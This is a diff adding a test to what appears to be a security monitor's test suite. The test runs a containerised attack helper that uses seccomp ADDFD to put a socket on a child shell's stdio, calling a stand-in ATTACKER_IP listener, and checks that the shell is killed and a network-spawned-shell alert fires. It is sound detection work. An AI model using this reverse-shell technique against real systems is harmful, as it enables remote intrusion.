@@ -234,6 +234,19 @@ def test_a_socket_dup2ed_by_the_parent_is_on_the_stdio_of_a_child_sharing_the_fd
     assert len(shells) == 1 and shells[0].pid != run.pid and shells[0].stdio_socket and shells[0].killed
 
 
+def test_a_socket_installed_by_seccomp_addfd_is_on_the_shells_stdio(watched, attack, lab):
+    """SECCOMP_IOCTL_NOTIF_ADDFD puts the supervisor's socket on the waiting child's fds 0 and 1
+    with no dup, no SCM_RIGHTS and no pidfd_getfd: the child's exec of sh is killed."""
+    attacker = Attacker(lab, "listen", ATTACKER_IP, 4452)
+    run = watched.run(in_container(lab, [attack, "addfd", ATTACKER_IP, "4452"]), kill_policy=SHELL_KILL)
+    assert attacker.result()["received"] == 0
+    shells = run.of(model.ExecEvent, filename="/bin/sh")
+    assert len(shells) == 1 and shells[0].stdio_socket and shells[0].killed
+    adds = run.of(model.PrivEvent, op="seccomp_addfd", pid=run.pid)
+    assert [(a.arg1, a.detail) for a in adds] == [(0, "socket"), (1, "socket")]
+    assert "shell_spawned_by_network_process" in {a.rule for a in watched.alerts(run.events)}
+
+
 def test_io_uring_file_write_is_seen(watched, attack, tmp_path):
     target = tmp_path / "via-uring.txt"
     run = watched.run([attack, "uring-write", str(target), "hello through the ring"])
